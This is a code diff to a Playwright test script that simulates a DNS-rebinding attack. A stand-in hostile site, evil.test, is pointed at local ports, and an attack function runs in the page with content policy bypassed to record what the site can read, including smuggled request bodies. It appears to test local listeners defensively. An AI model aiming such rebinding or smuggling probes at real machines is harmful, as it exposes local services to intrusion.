@@ -1,5 +1,5 @@
-// A web site that has pointed its own name at this machine: node rebinding.mjs PORT, the name is evil.test.
-// Prints JSON: what the site's script could read, one entry for each thing it tried.
+// A web site that has pointed its own name at this machine: node rebinding.mjs PORT..., the name is evil.test.
+// Prints JSON: for each port what the site's script could read, one entry for each thing it tried.
 //
 // The script runs in whatever the listener itself answers under that name, without this answer's content policy: for the
 // browser it is a page of the site, and what it fetches has the site's origin.
@@ -7,7 +7,6 @@ import { createRequire } from "node:module";
 import path from "node:path";
 
 const { chromium } = createRequire(import.meta.url)(path.join(process.env.RCML_DEPS, "playwright-core-1.65"));
-const port = process.argv[2];
 
 // Runs in the site's page. Smuggled bodies are followed by plain questions: a second answer would come to one of these.
 async function attack() {
@@ -43,9 +42,13 @@ const browser = await chromium.launch({
 });
 try {
   const context = await browser.newContext({ bypassCSP: true });
-  const page = await context.newPage();
-  await page.goto(`http://evil.test:${port}/healthz`);
-  console.log(JSON.stringify(await page.evaluate(attack)));
+  const seen = {};
+  for (const port of process.argv.slice(2)) {
+    const page = await context.newPage();
+    await page.goto(`http://evil.test:${port}/healthz`);
+    seen[port] = await page.evaluate(attack);
+  }
+  console.log(JSON.stringify(seen));
 } finally {
   await browser.close();
 }
